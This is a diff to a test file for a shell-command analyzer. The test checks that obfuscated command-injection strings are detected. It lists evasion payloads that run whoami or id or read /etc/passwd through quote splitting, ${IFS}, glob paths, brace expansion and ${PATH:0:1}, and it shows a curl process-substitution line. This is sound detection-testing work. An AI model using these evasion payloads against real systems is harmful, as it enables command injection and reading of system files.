@@ -40,8 +40,8 @@ describe("shell analyzer", () => {
     expect(s("x <(curl -s http://x/y)")).toBeGreaterThanOrEqual(0.9);
   });
 
-  test("commands hidden by quotes, escapes, carets, empty variables and globs are read as the shell reads them", () => {
-    for (const v of [";w'h'o'am'i", ";wh\\oami", ";c\"\"at /etc/passwd", ";c$u\\at /etc/passwd", ";/???/c?t /etc/passwd", "&w^h^o^a^m^i", ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}"]) {
+  test("commands hidden by quotes, escapes, carets, empty variables, globs and `${PATH:0:1}` are read as the shell reads them", () => {
+    for (const v of [";w'h'o'am'i", ";wh\\oami", ";c\"\"at /etc/passwd", ";c$u\\at /etc/passwd", ";/???/c?t /etc/passwd", "&w^h^o^a^m^i", ";cat${IFS}/etc/passwd", ";cat$IFS$9/etc/passwd", ";{cat,/etc/passwd}", ";${PATH:0:1}bin${PATH:0:1}id"]) {
       expect(s(v)).toBeGreaterThanOrEqual(0.85);
     }
     expect(strongest(shellAnalyzer, ";w'h'o'am'i")!.rule).toBe("shell.obfuscated-command");
